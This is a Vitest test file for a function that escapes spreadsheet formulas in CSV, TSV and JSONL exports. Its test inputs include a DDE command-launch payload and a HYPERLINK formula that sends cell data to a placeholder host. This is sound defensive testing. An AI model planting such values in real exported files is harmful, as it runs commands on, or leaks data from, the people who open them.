import { describe, expect, it } from "vitest";

import { rewriteText } from "./rewrite.test.support.ts";
import { recordWithoutFormulas, withoutFormula } from "./without-formulas.ts";

const CSV = { delimiter: ",", quote: true };

describe("withoutFormula", () => {
  it.each([
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    " \r\n=1",
    "＝1+1",
    "=A1",
    "-1-1",
    "- a dull film",
  ])("puts an apostrophe before %j", (value) => {
    expect(withoutFormula(value)).toBe(`'${value}`);
  });

  it.each(["", "-", "+", "=", "-0.5", "+1", "-1e-7", " -3,5 ", "-12 %", "a=b", "'=1", "1-1", "good", "\u00e9"])(
    "leaves %j",
    (value) => {
      expect(withoutFormula(value)).toBe(value);
    },
  );
});

describe("recordWithoutFormulas", () => {
  it.each([
    ["1,a film,-0.5", "1,a film,-0.5"],
    ['=1,"=2",  "=3", =4,"a ""=5"",=6",', '\'=1,"\'=2",  "\'=3",\' =4,"a ""=5"",=6",'],
    ['"a"x,=1', '"a"x,\'=1'],
    ['"open,\n=1', '"open,\n=1'],
    ['"""=1"', '"""=1"'],
    ["", ""],
  ])("changes only what would be run: %j", (record, expected) => {
    expect(recordWithoutFormulas(record, CSV)).toBe(expected);
  });

  it("finds the fields of a table without quotes, also after a tab", () => {
    expect(recordWithoutFormulas('"a\t=1\t\t-2', { delimiter: "\t", quote: false })).toBe("\"a\t'=1\t\t-2");
    expect(recordWithoutFormulas('a\t"=1"', { delimiter: "\t", quote: true })).toBe('a\t"\'=1"');
  });

  it("takes time in proportion to the length", () => {
    const started = performance.now();
    for (const piece of ["=1,", '"', '"=', " ", "\t", '" ,', "=", "=\t"])
      recordWithoutFormulas(piece.repeat(500_000), CSV);
    expect(performance.now() - started).toBeLessThan(10_000); // About 1 s; a quadratic loop would take hours.
  });
});

describe("a scored table", () => {
  const formula = '=HYPERLINK("https://x.example?"&A1)';
  const field = `"${formula.replaceAll('"', '""')}"`;

  it("holds no formula of the file, in records that are kept and in its header and the lines above it", async () => {
    const csv = `=1+1\nid,review,=2\n1,a good film,${field}\n2,${field},-0.5\n`;
    const lines = (await rewriteText("a.csv", csv, "b.csv")).split("\n");
    for (const line of lines) expect(line).not.toMatch(/(?:^|,|,")=/);
    expect(lines.filter((line) => line.includes("'=HYPERLINK"))).toHaveLength(2);
    expect(lines.join("\n")).toContain(",-0.5,");
  });

  it("holds no formula of another format, nor of a key", async () => {
    const jsonLines = `${JSON.stringify({ review: formula, "@key": "+1+1" })}\n`;
    for (const output of ["b.csv", "b.tsv"]) {
      const text = await rewriteText("a.jsonl", jsonLines, output);
      expect(text).toContain("'@key");
      expect(text).toContain("'=HYPERLINK");
      expect(text).toContain("'+1+1");
    }
    expect(await rewriteText("a.jsonl", jsonLines, "b.jsonl")).not.toContain("'="); // No spreadsheet runs JSON.
  });
});
